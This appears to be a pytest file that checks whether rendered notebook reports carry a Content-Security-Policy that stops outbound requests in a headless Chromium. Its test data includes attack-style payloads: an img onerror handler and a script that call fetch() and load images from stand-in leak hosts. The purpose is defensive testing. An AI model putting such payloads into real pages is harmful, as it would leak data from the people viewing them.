"""A report cannot fetch or send anything, and runs scripts only where its outputs carry them (issue 19, item 7).

Attacked in a real chromium: an HTML output whose image error handler calls ``fetch()``, and a
JavaScript output (as chart libraries emit) that draws and then tries to ``fetch()`` and to
load an image from another host. The Content-Security-Policy, first in each report's
``<head>``, blocks every request; the chart still draws.
"""

from __future__ import annotations

import re
from pathlib import Path

import nbformat
import pytest
from daemon_process import wait_for
from headless_chromium import headless_chromium
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from render_checks import report_context

from autoflow_watch.render.report import render_report

pytestmark = pytest.mark.chromium

HANDLER_HTML = '<img src="data:image/png;base64,AAAA" onerror="fetch(\'http://leak-handler.example.org/x\')">'
CHART_JS = (
    'element.textContent = "DRAWN BY SCRIPT";'
    'fetch("http://leak-fetch.example.org/x");'
    'new Image().src = "http://leak-image.example.org/y.png";'
)


def _report(path: Path, output: nbformat.NotebookNode) -> Path:
    nb = new_notebook(cells=[new_markdown_cell("# Attack"), new_code_cell("show()", outputs=[output])])
    nbformat.write(nb, str(path))
    [html] = render_report(path, path.parent / "out", path.stem, ["html"], report_context())
    return html


def _policy(page: str) -> str:
    first = re.match(r"<meta\b[^>]*>", page.split("<head>", 1)[1].lstrip())
    assert first and 'http-equiv="Content-Security-Policy"' in first.group(0), "the policy comes first in <head>"
    content = re.search(r'content="([^"]+)"', first.group(0))
    assert content
    return content.group(1).replace("&#x27;", "'")


def test_reports_carry_the_policy_and_no_request_leaves_the_page(tmp_path: Path) -> None:
    handler = _report(
        tmp_path / "handler.ipynb", new_output("display_data", data={"text/html": HANDLER_HTML, "text/plain": "x"})
    )
    chart = _report(
        tmp_path / "chart.ipynb",
        new_output("display_data", data={"application/javascript": CHART_JS, "text/plain": "<chart>"}),
    )
    no_scripts, with_scripts = _policy(handler.read_text()), _policy(chart.read_text())
    for policy in (no_scripts, with_scripts):
        assert "default-src 'none'" in policy and "connect-src 'none'" in policy and "form-action 'none'" in policy
    assert "script-src 'none'" in no_scripts, "no script output: no script runs"
    assert "script-src 'unsafe-inline'" in with_scripts, "the chart's own script may run"
    unprotected = tmp_path / "unprotected"
    unprotected.mkdir()
    for page in (handler, chart):  # the same pages with the policy taken out: the attacks work
        text = re.sub(r'<meta[^>]*http-equiv="Content-Security-Policy"[^>]*>', "", page.read_text())
        (unprotected / page.name).write_text(text)
    with headless_chromium(tmp_path / "profile") as browser:
        browser.open(handler.as_uri())
        browser.open(chart.as_uri())
        drawn = browser.driver.page_source
        browser.open("about:blank")  # lets anything still pending go out (or not) before we look
        contacted = {h for h in browser.proxy.hosts() if h.startswith("leak-")}
        for page in (handler, chart):
            browser.open((unprotected / page.name).as_uri())
        wanted = {"leak-handler.example.org", "leak-fetch.example.org", "leak-image.example.org"}
        leaked = wait_for(lambda: wanted <= browser.proxy.hosts(), 30, what="the unprotected pages' requests")
    assert "DRAWN BY SCRIPT" in drawn
    assert contacted == set(), f"the report reached {contacted}"
    assert leaked
